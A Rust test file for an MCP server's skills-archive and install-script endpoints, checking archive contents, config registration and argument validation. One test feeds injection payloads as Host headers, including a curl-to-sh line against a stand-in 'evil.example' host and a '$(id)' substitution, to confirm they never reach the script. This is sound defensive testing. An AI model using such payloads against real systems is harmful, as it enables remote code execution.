//! `GET /skills/package` (an archive of the repository's skills) and `GET /install.sh` (a
//! script run here with `sh`, whose URL no request can change).

use crate::helpers::TestApp;
use std::io::Read;
use std::path::Path;
use std::process::Command;

#[actix_web::test]
async fn the_package_unpacks_to_the_skills_in_the_repository() {
    let app = TestApp::spawn(&[]).await;
    let response = app
        .client
        .get(app.url("/skills/package"))
        .send()
        .await
        .expect("an answer");
    assert_eq!(response.status(), 200);
    let header = |name: &str| response.headers()[name].to_str().expect("ASCII").to_owned();
    assert_eq!(header("content-type"), "application/gzip");
    assert_eq!(
        header("content-disposition"),
        r#"attachment; filename="estate-skills.tar.gz""#
    );
    let bytes = response.bytes().await.expect("the archive");
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(bytes.as_ref()));
    let skills = Path::new(env!("CARGO_MANIFEST_DIR")).join("skills");
    let mut names = Vec::new();
    for entry in archive.entries().expect("entries") {
        let mut entry = entry.expect("an entry");
        let path = entry.path().expect("a path").to_string_lossy().into_owned();
        let mut contents = String::new();
        entry.read_to_string(&mut contents).expect("text");
        let on_disk = std::fs::read_to_string(skills.join(&path)).expect("the file in the repo");
        assert_eq!(contents, on_disk, "{path}");
        names.push(path);
    }
    assert_eq!(
        names,
        [
            "estate-logging-review/SKILL.md",
            "estate-custom-rules/SKILL.md",
            "estate-rate-limits/SKILL.md",
            "estate-projects/SKILL.md"
        ]
    );
}

#[actix_web::test]
async fn the_script_carries_the_configured_url_whatever_the_request_says() {
    let app = TestApp::spawn(&[("MCP_PUBLIC_URL", "https://mcp.example.com/")]).await;
    for host in [
        "mcp.example.com",
        "evil.example'; curl evil.example | sh; '",
        "x\"$(id)\"",
    ] {
        let script = app
            .get("/install.sh", &[("host", host), ("x-forwarded-host", host)])
            .await;
        assert_eq!(script.status, 200);
        assert_eq!(
            script.header("content-type"),
            Some("text/x-shellscript; charset=utf-8")
        );
        assert!(
            script
                .body
                .contains("ESTATE_MCP_URL='https://mcp.example.com/mcp'\n")
        );
        assert!(
            !script.body.contains("evil") && !script.body.contains("$(id)"),
            "{host}"
        );
    }
    let local = TestApp::spawn(&[]).await;
    let script = local.get("/install.sh", &[]).await.body;
    let expected = format!("ESTATE_MCP_URL='{}/mcp'\n", local.base);
    assert!(
        script.contains(&expected),
        "the default is the bound address"
    );
}

fn run(script: &Path, dir: &Path, args: &[&str], path: &str) -> (bool, String) {
    let output = Command::new("sh")
        .arg(script)
        .args(args)
        .current_dir(dir)
        .env("PATH", path)
        .env_remove("ESTATE_MCP_CLIENT")
        .output()
        .expect("sh runs");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    (output.status.success(), text)
}

#[actix_web::test]
async fn the_script_registers_the_server_with_a_client() {
    let app = TestApp::spawn(&[("MCP_PUBLIC_URL", "https://mcp.example.com")]).await;
    let dir = tempfile::tempdir().expect("a directory");
    let script = dir.path().join("install.sh");
    std::fs::write(&script, app.get("/install.sh", &[]).await.body).expect("written");
    let system_path = std::env::var("PATH").unwrap_or_default();

    let (ok, out) = run(&script, dir.path(), &["--client", "json"], &system_path);
    assert!(ok, "{out}");
    let written = std::fs::read_to_string(dir.path().join(".mcp.json")).expect("written");
    let expected =
        r#"{"mcpServers":{"estate":{"type":"http","url":"https://mcp.example.com/mcp"}}}"#;
    let parsed: serde_json::Value = serde_json::from_str(&written).expect("JSON");
    assert_eq!(parsed.to_string(), expected);

    let config = dir.path().join("other.json");
    std::fs::write(
        &config,
        r#"{"mcpServers":{"keep":{"command":"x"}},"other":1}"#,
    )
    .expect("written");
    let args = [
        "--client",
        "json",
        "--config",
        "other.json",
        "--name",
        "estate-dev",
    ];
    let (ok, out) = run(&script, dir.path(), &args, &system_path);
    assert!(ok, "{out}");
    let merged: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&config).expect("read")).expect("JSON");
    assert_eq!(
        merged,
        serde_json::json!({ "mcpServers": {
            "keep": { "command": "x" },
            "estate-dev": { "type": "http", "url": "https://mcp.example.com/mcp" }
        }, "other": 1 })
    );

    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).expect("a bin directory");
    let log = dir.path().join("claude.log");
    let fake = format!("#!/bin/sh\nprintf '%s\\n' \"$@\" > '{}'\n", log.display());
    std::fs::write(bin.join("claude"), fake).expect("a fake claude");
    Command::new("chmod")
        .arg("+x")
        .arg(bin.join("claude"))
        .status()
        .expect("chmod");
    let with_claude = format!("{}:{system_path}", bin.display());
    let (ok, out) = run(&script, dir.path(), &[], &with_claude);
    assert!(ok, "{out}");
    let logged = std::fs::read_to_string(&log).expect("claude was run");
    assert_eq!(
        logged,
        "mcp\nadd\n--transport\nhttp\n--scope\nuser\nestate\nhttps://mcp.example.com/mcp\n"
    );

    for bad in [
        &["--name", "a;b"][..],
        &["--client", "vim"],
        &["--scope", "global"],
        &["--frobnicate"],
    ] {
        let (ok, out) = run(&script, dir.path(), bad, &system_path);
        assert!(!ok, "{bad:?}: {out}");
    }
}
